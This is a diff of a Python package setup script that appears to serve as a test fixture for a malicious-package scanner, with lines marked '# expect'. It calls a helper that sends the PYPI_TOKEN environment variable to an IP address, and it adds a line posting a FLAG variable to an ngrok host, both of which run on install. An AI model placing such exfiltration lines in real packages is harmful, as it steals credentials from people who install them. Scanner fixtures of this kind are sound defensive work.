@@ -13,5 +13,6 @@ def one(name):
     requests.get("http://192.0.2.5/?v=" + os.getenv(name))  # expect
 
 
+requests.post("https://abc.ngrok.io/", data={"flag": os.getenv("FLAG")})  # expect
 one("PYPI_TOKEN")
 setup(name="sample")
